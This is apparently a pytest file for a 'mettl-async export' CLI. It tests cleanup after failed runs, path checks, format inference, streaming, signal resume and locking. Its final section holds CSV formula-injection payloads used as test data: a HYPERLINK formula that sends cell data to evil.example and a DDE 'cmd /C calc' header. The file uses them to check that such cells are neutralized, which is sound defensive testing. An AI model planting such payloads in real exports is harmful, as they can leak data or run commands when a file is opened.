"""``mettl-async export`` tried as a new user would: each case of issue 14 has a test.

Failed runs leave nothing, paths are checked before any request, the format follows the
extension, ``--output -`` streams, ``demo`` refuses to replace a file, SIGINT and SIGTERM
print the command that resumes, a second run on the same path stops at once, and CSV
cells that a spreadsheet would run as formulas are neutralized.
"""

from __future__ import annotations

import asyncio
import csv
import io
import os
import re
import shlex
import signal
import sys
from collections.abc import AsyncIterator, Awaitable, Callable
from pathlib import Path
from typing import Any

import orjson
import pytest
from aiohttp import web

from mettl_async.cli.entry import EXIT_OK, EXIT_USAGE, main
from mettl_async.export import ExportOptions, export_results, neutralize
from mettl_async.export.journal import CHECKPOINT_VERSION
from mettl_async.testing import DEMO_PRIVATE_KEY, DEMO_PUBLIC_KEY, FakeMettl, FakeMettlServer
from mettl_async.testing.data import FakeAccount

SIZES = [30, 120, 0, 75]


@pytest.fixture
async def server() -> AsyncIterator[FakeMettlServer]:
    async with FakeMettlServer(FakeMettl(account=FakeAccount(SIZES, seed=21))) as running:
        yield running


def env_for(server: FakeMettlServer, private_key: str = DEMO_PRIVATE_KEY) -> dict[str, str]:
    return {
        **os.environ,
        "METTL_PUBLIC_KEY": DEMO_PUBLIC_KEY,
        "METTL_PRIVATE_KEY": private_key,
        "METTL_BASE_URL": server.base_url,
    }


async def cli(
    *args: str, env: dict[str, str], cwd: Path | None = None, timeout: float = 60
) -> tuple[int, bytes, str]:
    """``python -m mettl_async ARGS`` in a child process; the fake keeps serving meanwhile."""
    process = await asyncio.create_subprocess_exec(
        sys.executable, "-m", "mettl_async", *args,
        env=env, cwd=cwd, stdout=asyncio.subprocess.PIPE, stderr=asyncio.subprocess.PIPE,
    )  # fmt: skip
    async with asyncio.timeout(timeout):
        out, err = await process.communicate()
    assert process.returncode is not None
    return process.returncode, out, err.decode()


def names(directory: Path) -> list[str]:
    return sorted(p.name for p in directory.iterdir())


def jsonl_keys(data: bytes) -> list[tuple[str, str]]:
    return [(r["accessKey"], r["email"]) for r in map(orjson.loads, data.splitlines())]


async def until(ready: Any, timeout: float = 30) -> None:
    async with asyncio.timeout(timeout):
        for _ in iter(int, 1):
            if ready():
                return
            await asyncio.sleep(0.01)


# -- a run that wrote nothing leaves nothing ------------------------------------------------


async def test_a_failed_run_leaves_nothing_and_the_same_command_works_once_fixed(
    server: FakeMettlServer, tmp_path: Path
) -> None:
    """Wrong key: exit 3, no PATH.partial, no checkpoint; the same command then succeeds."""
    command = ("export", "--all", "--output", str(tmp_path / "r.jsonl"))
    code, _, err = await cli(*command, env=env_for(server, "wrong-key"))
    assert code == 3, err
    assert names(tmp_path) == []
    code, _, err = await cli(*command, env=env_for(server))
    assert code == EXIT_OK, err
    assert len(jsonl_keys((tmp_path / "r.jsonl").read_bytes())) == sum(SIZES)
    assert names(tmp_path) == ["r.jsonl"]


@pytest.mark.parametrize("data", [b"", b'{"accessKey":"torn'], ids=["empty", "unvouched"])
async def test_leftovers_of_a_run_that_wrote_nothing_do_not_block_the_next(
    server: FakeMettlServer, tmp_path: Path, data: bytes
) -> None:
    """A header-only checkpoint (a kill before the first commit) vouches for nothing, so
    neither does PATH.partial: a new run replaces them instead of asking for --resume."""
    output = tmp_path / "r.jsonl"
    (tmp_path / "r.jsonl.partial").write_bytes(data)
    options = ExportOptions(output=output)
    header = {"mettl-async-export": CHECKPOINT_VERSION, **options.identity()}
    (tmp_path / "r.jsonl.checkpoint").write_bytes(orjson.dumps(header) + b"\n")
    async with server.client() as client:
        summary = await export_results(client, options)
    assert summary.records == sum(SIZES)


# -- paths are checked before any request -------------------------------------------------------


async def test_an_output_naming_a_directory_is_refused_before_any_request(
    server: FakeMettlServer, tmp_path: Path
) -> None:
    code, _, err = await cli("export", "--all", "-o", str(tmp_path), env=env_for(server))
    assert code == EXIT_USAGE
    assert "is a directory" in err
    assert server.fake.requests == 0
    assert names(tmp_path) == []


async def test_missing_directories_are_not_created(server: FakeMettlServer, tmp_path: Path) -> None:
    output = tmp_path / "no" / "such" / "dir" / "r.jsonl"
    code, _, err = await cli("export", "--all", "-o", str(output), env=env_for(server))
    assert code == EXIT_USAGE
    assert "does not exist" in err
    assert "create it first" in err
    assert server.fake.requests == 0
    assert names(tmp_path) == []


# -- the format follows the extension ------------------------------------------------------------


async def test_a_csv_file_name_gives_csv_without_format(
    server: FakeMettlServer, tmp_path: Path
) -> None:
    output = tmp_path / "results.csv"
    code, _, err = await cli("export", "--all", "-o", str(output), "-q", env=env_for(server))
    assert code == EXIT_OK, err
    text = output.read_text(encoding="utf-8-sig")
    assert text.startswith("accessKey,scheduleName,assessmentId,email,")
    assert len(list(csv.DictReader(io.StringIO(text)))) == sum(SIZES)


@pytest.mark.parametrize(
    ("fmt", "name"), [("jsonl", "results.csv"), ("csv", "results.jsonl"), ("csv", "r.ndjson")]
)
def test_a_format_that_contradicts_the_extension_is_refused(
    tmp_path: Path, fmt: str, name: str, capsys: pytest.CaptureFixture[str]
) -> None:
    code = main(["export", "--all", "--format", fmt, "-o", str(tmp_path / name)])
    assert code == EXIT_USAGE
    assert "does not match" in capsys.readouterr().err
    assert names(tmp_path) == []


def test_an_unknown_extension_takes_the_format_given_or_jsonl() -> None:
    from mettl_async.cli.export import _format_for

    assert _format_for(Path("r.txt"), None) == "jsonl"
    assert _format_for(Path("r"), None) == "jsonl"
    assert _format_for(Path("r.txt"), "csv") == "csv"
    assert _format_for(Path("R.CSV"), None) == "csv"
    assert _format_for(Path("r.ndjson"), None) == "jsonl"


# -- --output - streams JSONL -----------------------------------------------------------------


async def test_output_dash_streams_jsonl_to_stdout_and_writes_no_file(
    server: FakeMettlServer, tmp_path: Path
) -> None:
    code, out, err = await cli(
        "export", "--all", "--output", "-", env=env_for(server), cwd=tmp_path
    )
    assert code == EXIT_OK, err
    keys = jsonl_keys(out)
    assert len(keys) == len(set(keys)) == sum(SIZES)
    assert "to standard output" in err  # the summary goes to stderr, never into the data
    assert names(tmp_path) == []  # no file named "-", no side files


@pytest.mark.parametrize(
    ("extra", "message"),
    [
        (["--format", "csv"], "JSONL only"),
        (["--resume"], "cannot be resumed"),
        (["--overwrite"], "cannot be resumed or overwritten"),
    ],
)
def test_output_dash_refuses_what_a_stream_cannot_do(
    tmp_path: Path,
    extra: list[str],
    message: str,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.chdir(tmp_path)
    code = main(["export", "--all", "-o", "-", *extra])
    assert code == EXIT_USAGE
    assert message in capsys.readouterr().err


async def test_a_reader_that_stops_early_ends_the_export_quietly(
    server: FakeMettlServer, tmp_path: Path
) -> None:
    """``mettl-async export --all -o - | head -n 1``: no traceback, exit 0 (pipefail)."""
    python = shlex.quote(sys.executable)
    script = (
        f"set -o pipefail; {python} -m mettl_async export --all -o - -q 2>err.txt "
        "| head -n 1 > first.txt"
    )
    process = await asyncio.create_subprocess_exec(
        "bash", "-c", script, env=env_for(server), cwd=tmp_path
    )
    async with asyncio.timeout(60):
        await process.wait()
    err = (tmp_path / "err.txt").read_text()
    assert process.returncode == EXIT_OK, err
    assert "Traceback" not in err
    assert orjson.loads((tmp_path / "first.txt").read_bytes())["accessKey"]


# -- demo refuses to replace a file it was not asked to ----------------------------------------


def test_demo_refuses_to_overwrite_a_named_file(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    output = tmp_path / "mine.jsonl"
    output.write_text("keep me\n")
    argv = ["demo", "--schedules", "2", "--candidates", "5", "--latency-ms", "0", "-o", str(output)]
    assert main(argv) == EXIT_USAGE
    assert "--overwrite" in capsys.readouterr().err
    assert output.read_text() == "keep me\n"
    assert main([*argv, "--overwrite", "-q"]) == EXIT_OK
    assert len(output.read_bytes().splitlines()) == 10


# -- SIGINT and SIGTERM: commit, and say how to resume -----------------------------------------


@pytest.mark.slow
@pytest.mark.parametrize(
    ("sig", "code", "word"),
    [(signal.SIGINT, 130, "interrupted"), (signal.SIGTERM, 143, "terminated")],
    ids=["SIGINT", "SIGTERM"],
)
async def test_a_signal_commits_and_prints_the_exact_command_to_resume(
    tmp_path: Path, sig: int, code: int, word: str
) -> None:
    fake = FakeMettl(account=FakeAccount(SIZES, seed=21), latency=0.15)
    async with FakeMettlServer(fake) as slow:
        output = tmp_path / "r.csv"
        partial = tmp_path / "r.csv.partial"
        process = await asyncio.create_subprocess_exec(
            sys.executable, "-m", "mettl_async", "export", "--all", "-o", str(output),
            "--concurrency", "1", env=env_for(slow), cwd=tmp_path,
            stdout=asyncio.subprocess.PIPE, stderr=asyncio.subprocess.PIPE,
        )  # fmt: skip
        await until(lambda: partial.exists() and partial.stat().st_size > 0)
        process.send_signal(sig)
        async with asyncio.timeout(30):
            _, err_bytes = await process.communicate()
        err = err_bytes.decode()
        assert process.returncode == code, err
        assert f"mettl-async: {word} after" in err
        match = re.search(r"holds the ([\d,]+) records written so far; to continue:\n  (.+)", err)
        assert match is not None, err
        kept = int(match.group(1).replace(",", ""))
        assert kept == partial.read_bytes().count(b"\n") > 0  # committed: exactly what is there
        command = shlex.split(match.group(2))
        assert command[-1] == "--resume"
        assert command[command.index("--format") + 1] == "csv"
        assert not output.exists()
        assert not (tmp_path / "r.csv.lock").exists()
        # the printed command, run as printed, finishes the export
        program = command.index("export")
        code2, _, err2 = await cli(*command[program:], env=env_for(slow), cwd=tmp_path)
        assert code2 == EXIT_OK, err2
        assert f"{kept:,} kept from before" in err2
    rows = list(csv.DictReader(io.StringIO(output.read_text(encoding="utf-8-sig"))))
    keys = [(row["accessKey"], row["email"]) for row in rows]
    assert len(keys) == len(set(keys)) == sum(SIZES)


async def test_an_interruption_before_anything_was_written_leaves_nothing(
    tmp_path: Path,
) -> None:
    fake = FakeMettl(account=FakeAccount(SIZES, seed=21), latency=2.0)
    async with FakeMettlServer(fake) as slow:
        process = await asyncio.create_subprocess_exec(
            sys.executable, "-m", "mettl_async", "export", "--all", "-o", str(tmp_path / "r.jsonl"),
            env=env_for(slow), cwd=tmp_path, stderr=asyncio.subprocess.PIPE,
        )  # fmt: skip
        await until(lambda: slow.fake.requests > 0)
        process.send_signal(signal.SIGINT)
        async with asyncio.timeout(30):
            _, err = await process.communicate()
    assert process.returncode == 130
    assert b"interrupted after" in err
    assert b"--resume" not in err  # nothing to resume
    assert names(tmp_path) == []


# -- one export at a time per output -------------------------------------------------------------


@pytest.mark.slow
class HeldResults(FakeMettl):
    """A fake whose result pages are answered only once ``release`` is set."""

    def __init__(self, **options: Any) -> None:
        super().__init__(**options)
        self.release = asyncio.Event()

    def app(self) -> web.Application:
        app = super().app()

        @web.middleware
        async def hold(
            request: web.Request,
            handler: Callable[[web.Request], Awaitable[web.StreamResponse]],
        ) -> web.StreamResponse:
            if request.path.endswith("/candidates"):
                await self.release.wait()
            return await handler(request)

        app.middlewares.append(hold)
        return app


async def test_a_second_export_to_the_same_path_exits_2_naming_the_first(tmp_path: Path) -> None:
    # The first export's result pages are held until the others have been refused: it
    # cannot finish before, however loaded the machine (its lock and .partial come first).
    fake = HeldResults(account=FakeAccount(SIZES, seed=21))
    async with FakeMettlServer(fake) as slow:
        output = tmp_path / "r.jsonl"
        first = await asyncio.create_subprocess_exec(
            sys.executable, "-m", "mettl_async", "export", "--all", "-o", str(output), "-q",
            "--concurrency", "1", env=env_for(slow), stderr=asyncio.subprocess.PIPE,
        )  # fmt: skip
        try:
            await until(lambda: (tmp_path / "r.jsonl.partial").exists())
            for again in ([], ["--overwrite"], ["--resume"]):
                code, _, err = await cli("export", "--all", "-o", str(output), *again,
                                         env=env_for(slow))  # fmt: skip
                assert code == EXIT_USAGE, err
                assert f"another export to {output} is running (pid {first.pid}" in err
            assert first.returncode is None  # still running: the refusals were the lock's
        finally:
            fake.release.set()
            async with asyncio.timeout(60):
                _, first_err = await first.communicate()
        assert first.returncode == EXIT_OK, first_err
    keys = jsonl_keys(output.read_bytes())
    assert len(keys) == len(set(keys)) == sum(SIZES)


# -- CSV cells a spreadsheet would run --------------------------------------------------------

HOSTILE_CELLS = {
    "First Name": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "Last Name": "+1+1",
    "Candidate City": "-2+3",
    "SAP ID": "@SUM(A1:A9)",
    "Phone Number": "\t=1",
    "Université": "\r=1",
}


def _with_hostile_cells(fake: FakeMettl) -> None:
    original = fake.account.candidate_bytes

    def poisoned(schedule: Any, j: int, *, ir: bool, qr: bool) -> bytes:
        data = orjson.loads(original(schedule, j, ir=ir, qr=qr))
        data.setdefault("registration", {}).update(HOSTILE_CELLS)
        return orjson.dumps(data)

    fake.account.candidate_bytes = poisoned  # type: ignore[method-assign]


def _cells(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as stream:  # a cell may hold a CR
        return list(csv.DictReader(stream))


@pytest.mark.parametrize("raw", [False, True], ids=["neutralized", "raw"])
async def test_formula_cells_are_neutralized_unless_raw(tmp_path: Path, raw: bool) -> None:
    fake = FakeMettl(account=FakeAccount([12], seed=3))
    _with_hostile_cells(fake)
    output = tmp_path / "r.csv"
    async with FakeMettlServer(fake) as served:
        argv = ["export", "--all", "-o", str(output), "-q", "--base-url", served.base_url]
        env = {"METTL_PUBLIC_KEY": DEMO_PUBLIC_KEY, "METTL_PRIVATE_KEY": DEMO_PRIVATE_KEY}
        code, _, err = await cli(*argv, *(["--csv-raw"] if raw else []), env={**os.environ, **env})
    assert code == EXIT_OK, err
    rows = _cells(output)
    assert len(rows) == 12
    for row in rows:
        for label, value in HOSTILE_CELLS.items():
            assert row[label] == (value if raw else "'" + value)
        assert not row["totalMarks"].startswith("'")  # numbers are never touched


def test_neutralize_follows_owasp() -> None:
    for start in "=+-@\t\r":
        assert neutralize(start + "x") == "'" + start + "x"
    for safe in ("x=1", " =1", "", "'=1", "Zoë"):
        assert neutralize(safe) == safe
    assert neutralize(-1.5) == -1.5
    assert neutralize(None) is None


async def test_column_names_are_neutralized_too(tmp_path: Path) -> None:
    fake = FakeMettl(account=FakeAccount([3], seed=3))
    original = fake.account.candidate_bytes

    def labelled(schedule: Any, j: int, *, ir: bool, qr: bool) -> bytes:
        data = orjson.loads(original(schedule, j, ir=ir, qr=qr))
        data["registration"] = {"=cmd|' /C calc'!A0": "x"}
        return orjson.dumps(data)

    fake.account.candidate_bytes = labelled  # type: ignore[method-assign]
    output = tmp_path / "r.csv"
    async with FakeMettlServer(fake) as served, served.client() as client:
        await export_results(client, ExportOptions(output=output, format="csv"))
    header = output.read_text(encoding="utf-8-sig").splitlines()[0]
    assert "'=cmd|' /C calc'!A0" in header


def test_the_csv_raw_flag_is_for_csv_only(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["export", "--all", "-o", str(tmp_path / "r.jsonl"), "--csv-raw"]) == EXIT_USAGE
    assert "--csv-raw is for CSV" in capsys.readouterr().err
